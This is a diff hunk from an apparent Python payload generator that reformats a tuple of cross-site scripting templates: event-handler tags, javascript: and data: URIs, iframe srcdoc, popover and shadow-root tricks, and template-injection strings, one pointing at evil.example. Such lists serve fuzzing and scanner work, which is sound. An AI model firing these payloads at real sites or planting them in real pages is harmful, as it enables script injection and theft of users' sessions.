@@ -38,14 +38,17 @@ _BODIES = (
     "<video><source onerror={}>", "<details open ontoggle={}>", "<input autofocus onfocus={}>",
     "<select autofocus onfocus={}>", "<marquee onstart={}>", "<a href=javascript:{}>x</a>",
     "<iframe srcdoc='<script>{}</script>'>", "<iframe src=javascript:{}>",
-    "<object data=javascript:{}>", "<embed src=javascript:{}>", "<form action=javascript:{}><button>",
+    "<object data=javascript:{}>", "<embed src=javascript:{}>",
+    "<form action=javascript:{}><button>",
     "<math><a xlink:href=javascript:{}>x", "<svg><animate onbegin={} attributeName=x>",
     "<style onload={}></style>", "<link rel=stylesheet href=//evil.example onerror={}>",
     "<meta http-equiv=refresh content=0;url=javascript:{}>", "<base href=javascript:{}//>",
-    "<x contenteditable onblur={} autofocus tabindex=1>", "<button popovertarget=x>x<b popover "
-    "id=x onbeforetoggle={}>", "<template shadowrootmode=open><img src onerror={}></template>",
+    "<x contenteditable onblur={} autofocus tabindex=1>",
+    "<button popovertarget=x>x<b popover id=x onbeforetoggle={}>",
+    "<template shadowrootmode=open><img src onerror={}></template>",
     " onmouseover={} ", " autofocus onfocus={} ", " style=animation:x onanimationstart={} ",
-    "javascript:{}", "data:text/html,<script>{}</script>", "{{{{constructor.constructor('{}')()}}}}",
+    "javascript:{}", "data:text/html,<script>{}</script>",
+    "{{{{constructor.constructor('{}')()}}}}",
     "${{{}}}", "<%= {} %>", ";{};//",
 )  # fmt: skip
 _COATS = (
